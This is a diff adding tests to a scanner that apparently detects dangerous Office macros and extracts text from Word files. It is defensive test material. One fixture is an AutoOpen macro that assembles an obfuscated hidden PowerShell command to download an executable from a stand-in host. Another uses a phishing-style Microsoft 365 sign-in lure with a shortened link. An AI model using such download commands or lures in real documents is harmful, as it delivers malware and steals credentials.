@@ -34,6 +34,33 @@ def test_a_macro_that_only_formats_text_is_not_dangerous():
     assert not report.dangerous and report.autoexec == () and report.flags == "---"
 
 
+# A macro that runs on opening and builds a PowerShell command without any call mraptor lists as "execute".
+AUTOEXEC_COMMAND_STRING = """Attribute VB_Name = "ThisDocument"
+Sub AutoOpen()
+    Dim s As String
+    s = "pow" & "ershell -w hidden -nop -c " & Chr(34) & "iwr hxxp://billing.invalid/nk.png -OutFile nk.exe" & Chr(34)
+    Debug.Print s
+End Sub
+"""
+
+
+def test_a_macro_run_on_opening_that_names_powershell_is_dangerous_even_without_an_execute_call():
+    report = documents.office_macros(files.docm(AUTOEXEC_COMMAND_STRING), "nebenkosten.docm")
+    assert report is not None and report.autoexec == ("AutoOpen",)
+    assert "X" not in report.flags  # mraptor sees no call that runs it
+    assert report.dangerous
+
+
+def test_the_words_of_a_word_file_are_read_with_its_typed_link():
+    body = ('<w:document xmlns:w="x"><w:body><w:p><w:r><w:t>Dear Rebecca,</w:t></w:r></w:p>'
+            '<w:p><w:r><w:t xml:space="preserve">Sign in with your Microsoft 365 account at: </w:t></w:r>'
+            '<w:r><w:t>https://rb.gy/x7k2qp</w:t></w:r></w:p></w:body></w:document>')
+    docx = files.zip_bytes({"[Content_Types].xml": "<Types/>", "word/document.xml": body})
+    text = documents.office_text(docx)
+    assert text.splitlines() == ["Dear Rebecca,", "Sign in with your Microsoft 365 account at: https://rb.gy/x7k2qp"]
+    assert documents.office_text(b"not a zip") == ""
+
+
 def test_a_document_without_macros_has_no_report():
     plain = files.zip_bytes({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})
     assert documents.office_macros(plain, "letter.docx") is None
